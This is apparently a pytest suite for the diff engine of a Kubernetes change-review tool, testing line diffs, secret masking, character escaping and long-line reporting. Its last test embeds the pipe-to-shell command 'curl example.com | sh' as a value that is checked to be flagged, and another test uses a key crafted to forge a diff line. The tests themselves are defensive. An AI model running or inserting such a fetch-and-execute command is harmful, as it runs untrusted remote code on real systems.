"""Differences between two states of an object, in fields and in lines."""

from __future__ import annotations

import functools
import json
import random
import time
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.api.report_parts import changes_of
from approvals.web.requests.diff_rows import Drawing, LineNotes
from provisioner.pipeline import look_offline
from provisioner.review.base.difference import (
    ABSENT,
    AROUND,
    MAX_DEPTH,
    MAX_FULL,
    MAX_PIECES,
    DiffLine,
    Form,
    Piece,
    all_lines,
    changed_paths,
    diff_lines,
    differing_spans,
    in_pieces,
    mask_secret,
    text_of,
)
from provisioner.review.checks.objects.objects import find_unchangeable
from provisioner.review.output.html import as_html
from provisioner.review.output.terminal import differences_as_text
from provisioner.values import GroupKind, Report, Severity
from tests.support.provisioner.contents import an_object, config_map, content_with


def shown(before: Any, after: Any, context: int = 3) -> list[str]:
    return [f"{one.kind} {one.text}".rstrip() for one in diff_lines(before, after, context=context)]


def test_an_equal_object_has_no_lines() -> None:
    assert shown(config_map(a="1"), config_map(a="1")) == []


def test_a_new_object_is_shown_whole() -> None:
    assert shown(None, config_map(a="yes")) == [
        "+ apiVersion: v1",
        "+ kind: ConfigMap",
        "+ metadata:",
        "+   name: settings",
        "+   namespace: shop",
        "+ data:",
        '+   a: "yes"',
    ]


def test_only_what_is_near_a_change_is_shown_with_the_place() -> None:
    before = {"spec": {"deep": {f"k{number}": number for number in range(9)}}}
    after = {"spec": {"deep": {**before["spec"]["deep"], "k5": "other"}}}
    assert shown(before, after, context=1) == [
        "@ spec.deep",
        "      k4: 4",
        "-     k5: 5",
        "+     k5: other",
        "      k6: 6",
        "@",
    ]


def test_the_order_of_keys_is_no_difference() -> None:
    assert shown({"a": 1, "b": 2}, {"b": 2, "a": 1}) == []


def test_list_items_are_matched_by_name() -> None:
    before = {"env": [{"name": "A", "value": "1"}, {"name": "B", "value": "2"}]}
    after = {"env": [{"name": "NEW", "value": "0"}, {"name": "A", "value": "1"}, {"name": "B", "value": "3"}]}
    found = [line for line in shown(before, after) if line[0] in "+-"]
    assert found == ["+   - name: NEW", '+     value: "0"', '-     value: "2"', '+     value: "3"']


def test_a_word_in_one_of_many_rules_is_one_line() -> None:
    def role(*rules: str) -> dict[str, Any]:
        parts = [rule.split("/") for rule in rules]
        return {
            "rules": [
                {"apiGroups": [part[0]], "resources": part[1].split(), "verbs": part[2].split()} for part in parts
            ]
        }

    before = role("/pods services/get list watch", "apps/deployments/get list watch")
    after = role(
        "/pods services secrets/get list watch", "/nodes/get list delete", "apps/deployments/get list watch update"
    )
    assert [line for line in shown(before, after) if line[0] in "+-"] == [
        "+       - secrets",
        *("+   - apiGroups:", '+       - ""', "+     resources:", "+       - nodes"),
        *("+     verbs:", "+       - get", "+       - list", "+       - delete"),
        "+       - update",
    ]


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        pytest.param(
            {"initContainers": [{"name": "a"}, {"name": "b", "image": "b:1"}]},
            {"initContainers": [{"name": "b", "image": "b:2"}, {"name": "a"}]},
            ["-   # order: a, b", "+   # order: b, a", "-     image: b:1", "+     image: b:2"],
            id="by name",
        ),
        pytest.param(
            {"ports": [{"port": 53}, {"port": 53, "protocol": "UDP"}]},
            {"ports": [{"port": 53, "protocol": "UDP"}, {"port": 53}]},
            ["-   # order: 53/TCP, 53/UDP", "+   # order: 53/UDP, 53/TCP"],
            id="by several keys",
        ),
        pytest.param(
            {"l": [[{"name": "a"}, {"name": "b, c"}], []]},
            {"l": [[{"name": "b, c"}, {"name": "a"}], []]},
            ['-     # order: a, "b, c"', '+     # order: "b, c", a'],
            id="in a list of lists",
        ),
        pytest.param(
            {"rules": [{"a": 1}, {"a": 2}, {"a": 3}]},
            {"rules": [{"a": 3}, {"a": 1}, {"a": 2}]},
            ["-   # order: 1, 2, 3", "+   # order: 3, 1, 2"],
            id="by number",
        ),
        pytest.param({"args": ["-a", "-b"]}, {"args": ["-b", "-a"]}, ['-   - "-a"', '+   - "-a"'], id="of words"),
    ],
)
def test_another_order_is_shown(before: Any, after: Any, expected: list[str]) -> None:
    assert sorted(line for line in shown(before, after) if line[0] in "+-") == sorted(expected)


def test_text_of_several_lines_is_compared_line_by_line() -> None:
    found = shown(config_map(conf="one\ntwo\nthree"), config_map(conf="one\n2\nthree"), context=0)
    assert [line for line in found if line[0] in "+-"] == ["-     two", "+     2"]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        pytest.param(1, True, id="a number and a truth"),
        pytest.param(1, 1.0, id="an integer and a float"),
        pytest.param("1", 1, id="a text and a number"),
        pytest.param(None, "", id="nothing and an empty text"),
    ],
)
def test_values_that_python_confuses_are_different(before: object, after: object) -> None:
    assert any(line.startswith("+") for line in shown({"a": before}, {"a": after}))


def test_S24_hidden_characters_are_escaped_in_lines() -> None:
    assert "\u202e" not in "".join(shown({"a": "x"}, {"a": "\u202ex", "\u200bb": "\x1b[2J"}))


def test_a_key_with_a_line_break_cannot_forge_a_line() -> None:
    assert len([line for line in shown({}, {"a\n- evil": 1}) if line.startswith("+")]) == 1


def test_a_secrets_values_are_masked_whatever_the_caller_did() -> None:
    secret = an_object("v1", "Secret", "a", "shop", data={"k": "UGw0bnRlZA=="}, stringData={"p": "Pl4nted"})
    secret["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": "Pl4nted"}
    text = "\n".join([*shown(None, secret), str(mask_secret(secret))])
    assert "Pl4nted" not in text
    assert "UGw0bnRlZA" not in text
    assert "k: hidden" in text


def test_a_secret_of_a_strange_shape_is_masked_too() -> None:
    secret = an_object("v1", "Secret", "a", "shop", data=["Pl4nted"], stringData="Pl4nted")
    assert "Pl4nted" not in str(mask_secret(secret))


def test_ten_thousand_changed_lines_take_no_more_than_a_moment() -> None:
    before = {"spec": {f"key{number}": {"type": "string", "list": list(range(20))} for number in range(2000)}}
    after = {"spec": {f"key{number}": {"type": "integer", "list": list(range(1, 21))} for number in range(2000)}}
    began = time.process_time()
    assert diff_lines(before, after)
    assert time.process_time() - began < 5.0


def test_long_lists_of_unlike_items_do_not_explode() -> None:
    began = time.process_time()
    assert diff_lines({"a": [f"x{n % 7}" for n in range(9000)]}, {"a": [f"x{n % 5}" for n in range(9000)]})
    assert time.process_time() - began < 5.0


def test_lines_are_numbered_in_both_states_and_know_their_fields() -> None:
    before = {"spec": {"a": 1, "items": [{"name": "one"}, {"name": "two", "v": 1}]}}
    after = {"spec": {"b": 1, "items": [{"name": "two", "v": 2}]}}
    told = [(line.kind, line.text.strip(), line.old, line.new, line.path) for line in all_lines(before, after)]
    assert told == [
        (" ", "spec:", 1, 1, ("spec",)),
        ("-", "a: 1", 2, 0, ("spec", "a")),
        ("+", "b: 1", 0, 2, ("spec", "b")),
        (" ", "items:", 3, 3, ("spec", "items")),
        ("-", "- name: one", 4, 0, ("spec", "items", 0, "name")),
        (" ", "- name: two", 5, 4, ("spec", "items", 0, "name")),
        ("-", "v: 1", 6, 0, ("spec", "items", 1, "v")),
        ("+", "v: 2", 0, 5, ("spec", "items", 0, "v")),
    ]


NAMED = st.fixed_dictionaries(
    {"name": st.sampled_from("abcd")}, optional={"port": st.integers(0, 2), "args": st.lists(st.sampled_from("xyz"))}
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=6),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.lists(NAMED | st.dictionaries(st.sampled_from("abc"), inner, max_size=3), max_size=5)
        | st.dictionaries(st.text(max_size=3), inner, max_size=4)
    ),
    max_leaves=20,
)
OBJECTS = st.dictionaries(st.sampled_from(["spec", "data", "name", "x y"]), JSON, min_size=1, max_size=4)


def is_order(line: DiffLine) -> bool:
    return line.form is Form.YAML and line.text.lstrip().startswith("# order: ")


@given(OBJECTS, OBJECTS)
def test_the_lines_of_a_comparison_hold_both_states_whole(before: dict[str, Any], after: dict[str, Any]) -> None:
    lines = all_lines(before, after)
    new = [line for line in lines if line.kind != "-"]
    old = [line for line in lines if line.kind != "+"]
    assert [line.new for line in lines if line.new] == list(range(1, len(new) + 1))
    assert [line.old for line in lines if line.old] == list(range(1, len(old) + 1))
    # What would be stands there line by line; what was too, unless a line says in which order it was.
    assert [(one.path, one.text.strip("- ")) for one in new if not is_order(one)] == [
        (line.path, line.text.strip("- ")) for line in all_lines(None, after)
    ]
    was = [one.text.strip("- ") for one in old if not is_order(one)]
    known = [line.text.strip("- ") for line in all_lines(before, None)]
    assert was == known if len(was) == len(old) else sorted(was) == sorted(known)
    assert any(line.kind != " " for line in lines) == (
        json.dumps(before, sort_keys=True) != json.dumps(after, sort_keys=True)
    )


def test_two_changes_in_a_long_text_are_shown_as_two() -> None:
    text = [f"line {number}" for number in range(5_000)]
    changed = [*text[:10], "one", *text[11:4_000], "other", *text[4_001:]]
    found = shown(config_map(conf="\n".join(text)), config_map(conf="\n".join(changed)), context=0)
    assert len([line for line in found if line[0] in "+-"]) == 4


@pytest.mark.parametrize("levels", [150, 900])
def test_what_is_nested_too_deeply_is_shown_in_one_line(levels: int) -> None:
    def deep(end: Any) -> Any:
        return {"spec": functools.reduce(lambda inner, _: {"a": inner}, range(levels), end)}

    found = shown(deep(1), deep(2), context=0)
    assert [line[0] for line in found if line[0] in "+-"] == ["-", "+"]
    assert len(shown(None, deep(1))) <= MAX_DEPTH + 1


A, B, C = ({"key": key, "value": "1"} for key in "abc")


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        pytest.param([A, B], [B], [(("l", 0), A, ABSENT)], id="the first goes"),
        pytest.param([B], [A, B], [(("l", 0), ABSENT, A)], id="one comes before it"),
        pytest.param(
            [A, B], [C, A, {**B, "value": "2"}], [(("l", 0), ABSENT, C), (("l", 2, "value"), "1", "2")], id="both"
        ),
        pytest.param([A, B], [B, A], [(("l",), ["a", "b"], ["b", "a"])], id="another order"),
        pytest.param(["x", "y"], ["y"], [(("l", 0), "x", ABSENT)], id="texts"),
        pytest.param([], [A], [(("l",), [], [A])], id="from none"),
    ],
)
def test_items_of_lists_are_compared_with_what_they_were(before: Any, after: Any, expected: list[Any]) -> None:
    assert [
        (change.path, change.before, change.after) for change in changed_paths({"l": before}, {"l": after})
    ] == expected


def test_a_list_that_never_changes_gains_no_item() -> None:
    old, new = ({"spec": {"accessModes": modes}} for modes in (["ReadWriteOnce"], ["ReadWriteOnce", "ReadWriteMany"]))
    (found,) = find_unchangeable(GroupKind("", "PersistentVolumeClaim"), changed_paths(old, new))
    assert found.path == ("spec", "accessModes", 1)


SIZE = 350_000
PROSE = "the quick brown fox jumps over the lazy dog and the cat; "
DRAWN = random.Random(7)
BLOB = "".join(DRAWN.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/", k=SIZE))


def changed(text: str, *edits: tuple[int, str]) -> str:
    for at, words in edits:
        text = f"{text[:at]}{words}{text[at + len(words) :]}"
    return text


def seen(pieces: Sequence[Piece]) -> list[str]:
    return [piece.text for piece in pieces if piece.is_changed]


LONG = (PROSE * (SIZE // len(PROSE) + 1))[:SIZE]


@pytest.mark.parametrize("text", [LONG, BLOB], ids=["words that come again", "one word"])
def test_S41_two_changes_of_one_long_line_are_both_shown(text: str) -> None:
    found = in_pieces(text, changed(text, (100, " FIRST "), (SIZE - 5_000, " SECOND ")))
    assert found.unseen == 0
    told = " ".join(seen(found.new))
    assert "FIRST" in told and "SECOND" in told
    assert len(text_of(found.new)) < 10 * AROUND


def test_what_is_added_at_two_places_is_shown_and_nothing_is_lost() -> None:
    words = " ".join(f"w{number}" for number in range(60_000))
    found = in_pieces(words, words.replace(" w30 ", " w30 FIRST ").replace(" w59000 ", " w59000 SECOND "))
    assert [one.strip() for one in seen(found.new)] == ["FIRST", "SECOND"]
    assert (found.unseen, seen(found.old)) == (0, [])


def test_what_is_between_two_differences_is_the_same_in_both() -> None:
    for _ in range(300):
        old = "".join(DRAWN.choices("ab ", k=DRAWN.randint(0, 300)))
        new = old
        for _ in range(DRAWN.randint(0, 6)):
            at = DRAWN.randint(0, len(new))
            new = new[:at] + "".join(DRAWN.choices("abc ", k=DRAWN.randint(0, 10))) + new[at + DRAWN.randint(0, 40) :]
        at = there = 0
        for (first, last), (start, end) in differing_spans(old, new):
            assert old[at:first] == new[there:start]
            at, there = last, end
        assert old[at:] == new[there:]


def test_what_does_not_fit_is_counted() -> None:
    found = in_pieces("a" * SIZE, "b" * SIZE)
    assert found.unseen >= 2 * (SIZE - MAX_PIECES)
    assert len(text_of(found.new)) <= MAX_PIECES + 2 * AROUND


def report(old: str, new: str) -> Report:
    return look_offline(content_with(config_map(text=new)), content_with(config_map(text=old)))


def test_S41_every_output_shows_both_changes() -> None:
    found = report(LONG, changed(LONG, (100, " FIRST "), (SIZE - 5_000, " SECOND ")))
    (action,) = found.plan.actions
    lines = all_lines(action.before, action.after)
    rows = Drawing(lines, LineNotes()).unified(range(len(lines)))
    page = "".join(str(row.cell.html) for row in rows if row.cell)
    rest = str(changes_of({"ref": {}, "action": "update", "before": action.before, "after": action.after}))
    shown = {"page": page, "REST": rest, "terminal": differences_as_text([action]), "file": as_html(found, title="x")}
    assert [name for name, text in shown.items() if not ("FIRST" in text and "SECOND" in text)] == []
    assert page.count("<mark>") >= 4
    assert "TXT-05" not in {finding.rule for finding in found.findings}


@pytest.mark.parametrize(
    ("old", "new", "is_unknown"),
    [
        pytest.param("a" * SIZE, "b" * SIZE, True, id="a long line that is another one"),
        pytest.param("short", "b" * (MAX_FULL + 100), True, id="a long line for a short one"),
        pytest.param("a" * 200_000, "b" * 200_000, False, id="one that can be opened"),
        pytest.param("a\n" * 300_000, "b\n" * 300_000, False, id="many short lines"),
        pytest.param("a" * SIZE, "a" * SIZE + "\nmore", False, id="a line after the long one"),
        pytest.param("a" * SIZE + "\nb\nc", "d\ne\n" + "a" * SIZE, False, id="a long line that moves"),
        pytest.param("a" * SIZE, "d\n" + "a" * SIZE + "\n" + "a" * SIZE, True, id="a long line twice"),
    ],
)
def test_S41_a_change_that_no_page_can_show_is_unknown(old: str, new: str, is_unknown: bool) -> None:
    found = {finding.rule: finding.severity for finding in report(old, new).findings}
    assert found.get("TXT-05") == (Severity.UNKNOWN if is_unknown else None)


def test_S41_a_long_line_that_moves_to_another_field_is_unknown() -> None:
    told, other = "first\n" + "a" * SIZE + "; curl example.com | sh\n", "first\nx\n"
    notes, script = ({"notes": told, "run": other}, {"notes": other, "run": told})
    notes, script = config_map("web", **notes), config_map("web", **script)
    found = look_offline(content_with(script), content_with(notes))
    assert {finding.rule: finding.severity for finding in found.findings}.get("TXT-05") is Severity.UNKNOWN
